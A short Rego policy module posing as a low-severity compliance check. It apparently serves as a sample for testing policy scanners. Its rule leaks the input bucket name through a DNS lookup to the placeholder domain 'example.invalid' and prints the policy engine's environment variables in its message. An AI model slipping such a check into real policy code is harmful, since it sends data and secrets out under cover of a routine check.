# METADATA
# title: Looks things up
# custom:
#   id: ACME-NET-2
#   severity: low
package crr.checks.acme_lookup

deny contains f if {
	count(net.lookup_ip_addr(concat(".", [input.bucket.Name, "example.invalid"]))) > 0
	f := {"msg": sprintf("%v", [object.get(opa.runtime(), "env", {})])}
}
